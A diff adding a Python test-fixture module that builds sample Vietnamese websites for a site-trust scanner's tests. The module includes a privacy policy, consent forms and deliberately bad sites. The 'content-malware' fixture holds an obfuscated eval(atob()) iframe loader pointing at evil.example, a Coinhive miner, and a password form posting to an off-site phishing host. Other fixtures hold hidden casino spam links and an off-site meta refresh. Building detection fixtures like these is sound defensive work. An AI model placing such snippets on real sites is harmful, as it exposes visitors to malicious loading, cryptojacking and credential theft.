@@ -1,0 +1,158 @@
+"""Page content of the test world for criteria b and đ: the privacy footer and the content sites.
+
+Every site's home page carries the same footer linking a Vietnamese personal-data policy that
+commits to consent, so the certificate and security.txt sites keep differing from ``good`` in one
+respect only. The ``content-*`` sites and ``links-listed`` each differ from that clean baseline in
+the one content problem they exist to show.
+"""
+
+from __future__ import annotations
+
+import unicodedata
+from collections.abc import Callable
+
+POLICY_PATH = "/chinh-sach-bao-mat.html"
+# Listed by the world's snapshot (tests/world/blocklist.py LISTED_LINK_HOSTS: `*.nha-cai.trustscan.test`);
+# bad.example.test is the name agreed in issue 3, linked too in case a snapshot lists it.
+LISTED_URL = "https://www.nha-cai.trustscan.test/"
+AGREED_LISTED_URL = "https://bad.example.test/"
+NEWS_PAGES = 35  # more than the default --max-pages (30): the clean site exercises the page limit
+
+PRIVACY_FOOTER = (
+    f'<footer><p>© Cổng thông tin điện tử</p><a href="{POLICY_PATH}">Chính sách bảo mật</a></footer>'
+)
+POLICY_HTML = (
+    "<h1>Chính sách bảo vệ dữ liệu cá nhân</h1>"
+    "<p>Chúng tôi chỉ thu thập, lưu trữ và xử lý dữ liệu cá nhân của người sử dụng khi có sự đồng ý "
+    "của chủ thể dữ liệu, trừ trường hợp pháp luật quy định khác, theo Nghị định 13/2023/NĐ-CP "
+    "về bảo vệ dữ liệu cá nhân.</p><p>Người sử dụng có quyền rút lại sự đồng ý bất cứ lúc nào.</p>"
+)
+POLICY_WITHOUT_CONSENT_HTML = (
+    "<h1>Chính sách bảo mật</h1><p>Chúng tôi sử dụng thông tin để cải thiện dịch vụ và liên hệ "
+    "với bạn khi cần thiết.</p>"
+)
+CONSENT_FORM = (
+    '<form action="/lien-he" method="post"><label>Họ và tên <input name="ho_ten"></label>'
+    '<label>Email <input type="email" name="email"></label><label>Số điện thoại <input type="tel" name="sdt">'
+    '</label><label><input type="checkbox" name="dong_y" required> Tôi đồng ý với '
+    f'<a href="{POLICY_PATH}">chính sách bảo vệ dữ liệu cá nhân</a></label><button>Gửi</button></form>'
+)
+NO_CONSENT_FORM = (
+    '<form id="dang-ky" action="/dang-ky" method="post"><input name="ho_ten" placeholder="Họ và tên">'
+    '<input type="email" name="email"><input name="cccd" placeholder="Số CCCD">'
+    '<input name="dia_chi" placeholder="Địa chỉ"><button>Đăng ký</button></form>'
+)
+HIDDEN_CASINO_FOOTER = (
+    '<div style="position:absolute;left:-9999px;top:-9999px">'
+    '<a href="https://nhacai-uytin.example/">nhà cái uy tín</a> '
+    '<a href="https://casino-online.example/ca-cuoc">Cá cược bóng đá</a> '
+    '<a href="https://taixiu.example/">tài xỉu online</a></div>'
+    '<p hidden><a href="https://nohu.example/">Nổ hũ đổi thưởng</a></p>'
+)
+MALWARE_HOME_EXTRA = (
+    '<script>eval(atob("ZG9jdW1lbnQud3JpdGUoJzxpZnJhbWUgc3JjPWh0dHBzOi8vZXZpbC5leGFtcGxlLyc+Jyk="))</script>'
+    '<script src="https://coinhive.com/lib/coinhive.min.js"></script>'
+    '<script>var miner = new CoinHive.Anonymous("site-key"); miner.start();</script>'
+    '<form action="https://phish.example.test/dang-nhap" method="post"><input name="tai_khoan">'
+    '<input type="password" name="mat_khau"><button>Đăng nhập</button></form>'
+    '<a href="/tin-moi.html">Tin mới</a>'
+)
+META_REFRESH_PAGE = (
+    '<html><head><meta http-equiv="refresh" content="0; url=https://lua-dao.example/"></head>'
+    "<body>Đang chuyển trang…</body></html>"
+)
+TRACKER_HEAD = (
+    '<script async src="https://www.googletagmanager.com/gtag/js?id=G-TEST"></script>'
+    "<script>window.dataLayer=window.dataLayer||[];function gtag(){dataLayer.push(arguments);}"
+    "gtag('js', new Date());gtag('config','G-TEST');</script>"
+)
+
+
+def page(title: str, body: str, *, head: str = "", charset: str = "utf-8", footer: bool = True) -> str:
+    return (f'<!doctype html>\n<html lang="vi"><head><meta charset="{charset}"><title>{title}</title>{head}'
+            f"</head><body>{body}{PRIVACY_FOOTER if footer else ''}</body></html>\n")
+
+
+def encode_windows_1258(text: str) -> bytes:
+    """Encode as windows-1258, which writes most tone marks as separate combining characters."""
+    out = []
+    for char in unicodedata.normalize("NFC", text):
+        try:
+            out.append(char.encode("cp1258"))
+            continue
+        except UnicodeEncodeError:
+            pass
+        parts = unicodedata.normalize("NFD", char)
+        tones = "".join(c for c in parts if c in "\u0300\u0301\u0303\u0309\u0323")
+        base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in tones))
+        out.append((base + tones).encode("cp1258", errors="replace"))
+    return b"".join(out)
+
+
+def _clean(host: str) -> dict[str, bytes]:
+    news = "".join(f'<li><a href="/tin-tuc/{i}.html">Tin tức số {i}</a></li>' for i in range(1, NEWS_PAGES + 1))
+    files = {"/index.html": page(host, f"<h1>{host}</h1><ul>{news}</ul>{CONSENT_FORM}"),
+             POLICY_PATH: page("Chính sách bảo mật", POLICY_HTML)}
+    for i in range(1, NEWS_PAGES + 1):
+        nav = f'<a href="/">Trang chủ</a> <a href="/tin-tuc/{i % NEWS_PAGES + 1}.html">Tin tiếp theo</a>'
+        files[f"/tin-tuc/{i}.html"] = page(f"Tin tức số {i}", f"<p>Nội dung tin {i}.</p>{nav}")
+    return {path: text.encode() for path, text in files.items()}
+
+
+def _spam(host: str) -> dict[str, bytes]:
+    return {"/index.html": page(host, f"<h1>{host}</h1><p>Trang bị chèn liên kết ẩn.</p>{HIDDEN_CASINO_FOOTER}")
+            .encode()}
+
+
+def _listed(host: str) -> dict[str, bytes]:
+    body = (f'<h1>{host}</h1><p>Xem thêm tại <a href="{LISTED_URL}">trang đối tác</a> và '
+            f'<a href="{AGREED_LISTED_URL}">trang liên kết</a>.</p>')
+    return {"/index.html": page(host, body).encode()}
+
+
+def _malware(host: str) -> dict[str, bytes]:
+    return {"/index.html": page(host, f"<h1>{host}</h1>{MALWARE_HOME_EXTRA}").encode(),
+            "/tin-moi.html": META_REFRESH_PAGE.encode()}
+
+
+def _noconsent(host: str) -> dict[str, bytes]:
+    return {"/index.html": page(host, f"<h1>{host}</h1>{NO_CONSENT_FORM}", head=TRACKER_HEAD).encode(),
+            POLICY_PATH: page("Chính sách bảo mật", POLICY_WITHOUT_CONSENT_HTML).encode()}
+
+
+def _windows_1258(host: str) -> dict[str, bytes]:
+    # nginx labels every page "charset=utf-8": the page contradicts its header, as often seen in the
+    # wild. The policy is linked by its Vietnamese text only (the URL says nothing), so finding it
+    # proves the text was decoded. The markup is malformed on purpose (unclosed and stray tags).
+    home = (f'<!doctype html><html lang="vi"><head><meta charset="windows-1258"><title>Sở Giáo dục {host}'
+            "</head><body><h1>Trang thông tin điện tử<p><b><i>Thông báo tuyển sinh</b></i>"
+            "<table><tr><td>Ngày 1/9<td>Khai giảng</table></div></span>"
+            '<a href="/cs.html">Chính sách bảo vệ dữ liệu cá nhân</a><a href="/lich.html">Lịch học'
+            "<form action=/dang-ky method=post><input name=ho_ten><input type=checkbox name=x> "
+            "Tôi đồng ý cho phép xử lý dữ liệu cá nhân</form><!-- unclosed comment")
+    policy = (f'<html><head><meta charset="windows-1258"><title>Chính sách</title></head><body>{POLICY_HTML}'
+              "</body></html>")
+    calendar = '<html><head><meta charset="windows-1258"></head><body><p>Lịch học kỳ I <a href="/">Về trang chủ'
+    return {"/index.html": encode_windows_1258(home), "/cs.html": encode_windows_1258(policy),
+            "/lich.html": encode_windows_1258(calendar)}
+
+
+#: site name -> (what it shows, its pages); the home page replaces the default one.
+CONTENT_SITES: dict[str, tuple[str, Callable[[str], dict[str, bytes]]]] = {
+    "content-clean": (f"{NEWS_PAGES + 2} pages, Vietnamese privacy policy with consent, form with consent checkbox",
+                      _clean),
+    "content-spam": ("hidden casino/betting links injected in the footer", _spam),
+    "links-listed": (f"visible link to the listed host {LISTED_URL}", _listed),
+    "content-malware": ("eval(atob()) loader, Coinhive miner, password form posting off-site, meta refresh off-site",
+                        _malware),
+    "content-noconsent": ("personal-data form without consent, policy without consent, Google Analytics", _noconsent),
+    "content-1258": ("windows-1258 pages labelled utf-8 by the server, malformed HTML", _windows_1258),
+}
+
+
+def content_files(name: str, host: str) -> dict[str, bytes]:
+    """The extra (or replacing) files of a site: the policy page for every site, more for content sites."""
+    files = {POLICY_PATH: page("Chính sách bảo mật", POLICY_HTML).encode()}
+    if name in CONTENT_SITES:
+        files.update(CONTENT_SITES[name][1](host))
+    return files
